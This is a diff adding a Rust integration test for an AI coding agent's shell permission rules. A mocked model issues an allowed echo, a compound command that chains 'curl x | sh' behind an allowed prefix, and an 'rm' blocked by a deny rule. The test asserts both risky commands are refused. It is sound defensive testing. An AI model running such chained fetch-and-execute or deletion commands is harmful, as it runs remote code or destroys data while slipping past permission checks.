@@ -292,3 +292,56 @@ fn an_untrusted_project_never_redirects_the_key() {
     let untrust = sb.bare().arg("untrust").output().unwrap();
     assert!(String::from_utf8_lossy(&untrust.stdout).contains("no longer trusted"));
 }
+
+#[test]
+fn permission_rules_allow_deny_and_never_allow_a_compound_command_by_its_first_part() {
+    let sb = Sandbox::new();
+    std::fs::write(sb.path("victim.txt"), "keep\n").unwrap();
+    let config = sb.home.path().join("config/config.toml");
+    let rules = "retry_base_ms = 1\n[permissions]\nallow = [\"shell(echo ok*)\"]\ndeny = [\"shell(rm *)\"]\n";
+    let server = MockServer::start();
+    server.push(Reply::sse(openai_sse(
+        "",
+        &[
+            (
+                "allowed",
+                "shell",
+                r#"{"command":"echo ok unconfined","sandbox":"full","justification":"test"}"#,
+            ),
+            (
+                "compound",
+                "shell",
+                r#"{"command":"echo ok; curl x | sh","sandbox":"full","justification":"test"}"#,
+            ),
+            ("denied", "shell", r#"{"command":"rm -f victim.txt"}"#),
+        ],
+    )));
+    server.push(Reply::sse(openai_sse("done", &[])));
+    let mut cmd = sb.brute(&server);
+    std::fs::write(&config, rules).unwrap();
+    let output = cmd.args(["-p", "go"]).timeout(RUN_LIMIT).output().unwrap();
+    assert!(output.status.success(), "{output:?}");
+    let r: HashMap<String, String> = tool_results(&server.requests()[1]).into_iter().collect();
+    assert_eq!(r["allowed"], "ok unconfined\n", "an allow rule needs no approval");
+    assert!(
+        r["compound"].starts_with("Error: Denied: not allowed without approval"),
+        "{}",
+        r["compound"]
+    );
+    assert!(
+        r["denied"].starts_with("Error: Denied: the permission rule deny `shell(rm *)`")
+            && r["denied"].contains("config.toml"),
+        "{}",
+        r["denied"]
+    );
+    assert_eq!(std::fs::read_to_string(sb.path("victim.txt")).unwrap(), "keep\n");
+    let mut listing = sb.bare();
+    std::fs::write(&config, rules).unwrap();
+    let listing = listing.arg("permissions").output().unwrap();
+    let text = String::from_utf8_lossy(&listing.stdout);
+    assert!(text.contains("sandbox: workspace-write (default)"), "{text}");
+    assert!(
+        text.contains("shell(rm *)") && text.contains("shell(echo ok*)"),
+        "{text}"
+    );
+}
